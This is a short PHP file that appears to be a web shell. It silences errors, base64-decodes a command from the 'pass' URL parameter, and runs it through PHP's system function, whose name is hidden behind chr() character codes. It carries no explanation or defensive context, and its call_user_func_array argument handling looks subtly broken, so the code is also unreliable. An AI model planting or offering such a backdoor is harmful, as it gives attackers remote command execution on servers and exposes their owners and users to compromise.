<?php
error_reporting(0);
set_time_limit(0);
$payload = base64_decode($_GET['pass']);
call_user_func_array(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109), $payload);
